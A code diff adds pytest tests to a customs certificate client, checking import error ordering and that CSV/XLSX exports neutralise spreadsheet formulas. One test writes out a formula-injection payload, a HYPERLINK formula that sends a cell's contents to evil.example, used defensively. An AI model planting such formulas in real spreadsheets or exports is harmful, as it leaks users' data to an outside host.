@@ -4,17 +4,23 @@ lists in the administrations' shapes, and `cert import --json` one document what
 from __future__ import annotations
 
 import json
+import time
 
 import jsonschema
 import pytest
+import requests
 from aeo_list_files import write_csv
 from click.testing import CliRunner
+from helpers import serving
+from openpyxl import load_workbook
 from stdnum.pe import ruc
 from test_imports import chain, officer  # noqa: F401  (the reverted chain; an officer's client)
 
 from cadena_client.cli.main import cli
 from cadena_client.document import json_schema
-from cadena_client.domain.model import CertificateStatus
+from cadena_client.domain.model import CertificateStatus, MasterData
+from cadena_client.lists import files as aeo_files
+from cadena_client.lists import imports
 
 PERU = ["RUC", "Razón Social", "Dirección", "Tipo de Operador", "Fecha de Certificación", "Situación del OEA"]
 
@@ -96,3 +102,47 @@ def test_malformed_and_foreign_identifiers_in_a_mexican_list_are_refused(cadena_
     code, out, err = cadena_cli("cert", "import", str(write_csv(tmp_path / "mx.csv", grid)), "--country", "MX", dev=2)
     assert code == 1 and "2 problems in mx.csv; nothing was sent" in err
     assert "'MX-12 34': it is not a valid RFC" in out and "carries the prefix PE of Peru" in out
+
+
+def test_problems_come_first_and_warnings_are_summarised(cadena_cli, tmp_path):
+    header = ["RFC", "Denominación o Razón Social", "Rubro", "Fecha de Autorización", "Fecha de Vencimiento", "Estatus"]
+    rows = [
+        [f"E{a}{b}180101AB1", "Vieja S.A.", "Agente Aduanal", "01/02/2018", "01/02/2021", "Vigente"]
+        for a in "AB"
+        for b in "ABCD"
+    ]
+    rows += [["EPZ180101AB1", "Mala S.A.", "Contrabandista", "01/02/2018", "", "Vigente"]]
+    code, out, err = cadena_cli(
+        "cert", "import", str(write_csv(tmp_path / "mx.csv", [header, *rows])), "--country", "MX", dev=2
+    )
+    assert code == 1 and "1 problem in mx.csv; nothing was sent" in err
+    problems, warnings = (
+        out.index("Contrabandista"),
+        out.index("8 warnings: rows marked active whose expiry has passed"),
+    )
+    assert problems < warnings and "rows 2, 3, 4, 5, 6 and 3 more (--json lists them all)" in out
+    assert out.count("is marked active but expired") == 0  # summarised: no row of them printed
+
+
+def test_every_export_writes_formulas_as_text_through_the_service(node, pilot_record, tmp_path):
+    name, address = '=HYPERLINK("http://evil.example/?d="&B3,"Click")', "@SUM(1+1)"
+    with serving(node.url, pilot_record, tmp_path) as (url, officer):
+        officer.issue(MasterData("MXEVIL00000001", name, address, "importer", "2024-01-01"))
+        deadline = time.monotonic() + 20
+        while time.monotonic() < deadline and not requests.get(f"{url}/v1/certificates/MXEVIL00000001").ok:
+            time.sleep(0.1)
+        for fmt in ("csv", "xlsx"):
+            body = requests.get(f"{url}/v1/aeo-list", params={"country": "MX", "format": fmt}).content
+            (tmp_path / f"export.{fmt}").write_bytes(body)
+    sheet = load_workbook(tmp_path / "export.xlsx").active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert [name, address] in [[cell.value for cell in row][2:4] for row in sheet.iter_rows()]
+    text = (tmp_path / "export.csv").read_text(encoding="utf-8-sig")
+    assert "\n=" not in text and ",=" not in text and ",@" not in text
+    for fmt in ("csv", "xlsx"):
+        (entry,) = [
+            e
+            for e in imports.check(aeo_files.read(tmp_path / f"export.{fmt}"), "MX").entries
+            if e.master.tin == "MXEVIL00000001"
+        ]
+        assert (entry.master.name, entry.master.address) == (name, address)
